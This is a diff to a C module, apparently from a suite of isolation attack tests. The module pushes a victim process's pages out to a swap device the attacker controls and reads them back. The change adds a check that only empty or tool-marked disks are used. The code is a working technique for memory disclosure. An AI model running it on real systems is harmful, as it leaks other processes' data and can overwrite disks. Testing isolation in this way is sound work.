@@ -1,6 +1,6 @@
 /*
  * swap.c - the victim's pages written to a swap area of the attacker's, and read there. For a disposable machine
- * with a spare disk (/dev/vda) or zram.
+ * with an empty disk (/dev/vda, /dev/vdb) or zram.
  */
 #include "attack.h"
 
@@ -19,26 +19,50 @@
 #define MADV_PAGEOUT 21
 #endif
 
-enum { PAGE = 4096, SETTLE_MS = 500, VERSION_AT = 1024, ROUNDS = 8, TRIES = 60, TRY_MS = 7 };
+enum { PAGE = 4096, BEGIN = 1 << 17, SETTLE_MS = 500, VERSION_AT = 1024, ROUNDS = 8, TRIES = 60, TRY_MS = 7 };
 #define SIZE (32u << 20)
+#define MARK "attacks: a swap area"
 
-/* What mkswap writes. */
+/* Nobody's: empty at its beginning, or marked by us before. A file system is neither, mounted or not. */
+static int is_spare(const char *device)
+{
+	static unsigned char begin[BEGIN];
+	int fd = open_path(device, O_RDONLY | O_EXCL);
+	int spare = fd >= 0 && pread(fd, begin, sizeof(begin), 0) == BEGIN;
+
+	if (fd >= 0)
+		(void)close(fd);
+	if (spare && memcmp(begin, MARK, sizeof(MARK)) == 0)
+		return 1;
+	for (size_t i = 0; spare && i < sizeof(begin); i++)
+		spare = begin[i] == 0;
+	return spare;
+}
+
+/* What mkswap writes; and nothing that an earlier attack left. */
 static int make_area(int fd)
 {
-	static unsigned char head[PAGE];
-	uint32_t words[3] = { 1, SIZE / PAGE - 1, 0 }; /* version, last page, bad pages */
+	static unsigned char page[PAGE];
+	const uint32_t words[3] = { 1, SIZE / PAGE - 1, 0 }; /* version, last page, bad pages */
 
-	memcpy(head + VERSION_AT, words, sizeof(words));
-	memcpy(head + PAGE - 10, "SWAPSPACE2", 10);
-	return pwrite(fd, head, sizeof(head), 0) == PAGE && fsync(fd) == 0 ? 0 : -errno;
+	for (off_t at = PAGE; at < (off_t)SIZE; at += PAGE)
+		if (pwrite(fd, page, sizeof(page), at) != PAGE)
+			return -errno;
+	memcpy(page, MARK, sizeof(MARK));
+	memcpy(page + VERSION_AT, words, sizeof(words));
+	memcpy(page + PAGE - 10, "SWAPSPACE2", 10);
+	return pwrite(fd, page, sizeof(page), 0) == PAGE && fsync(fd) == 0 ? 0 : -errno;
 }
 
 static const char *area(void)
 {
-	if (access("/dev/vda", F_OK) == 0)
-		return "/dev/vda";
+	static const char *const devices[] = { "/dev/vda", "/dev/vdb", "/dev/zram0" };
+
 	(void)put_text("/sys/block/zram0/disksize", "33554432");
-	return access("/dev/zram0", F_OK) == 0 ? "/dev/zram0" : NULL;
+	for (size_t i = 0; i < sizeof(devices) / sizeof(devices[0]); i++)
+		if (is_spare(devices[i]))
+			return devices[i];
+	return NULL;
 }
 
 /* The stack: what children share is not pushed out by one. */
@@ -88,7 +112,8 @@ static int read_swap(struct attack *a)
 }
 
 #define SWAP(id, says, how) \
-	{ .name = id, .vector = "swap", .what = says, .run = read_swap, .number = how, .flags = EVERYBODY | HITS_MACHINE | MOUNTS }
+	{ .name = id, .vector = "swap", .what = says, .run = read_swap, .number = how, \
+	  .flags = EVERYBODY | HITS_MACHINE | MOUNTS }
 
 const struct row swap_rows[] = {
 	SWAP("swap_pageout", "pages pushed out by process_madvise, read from the device", 0),
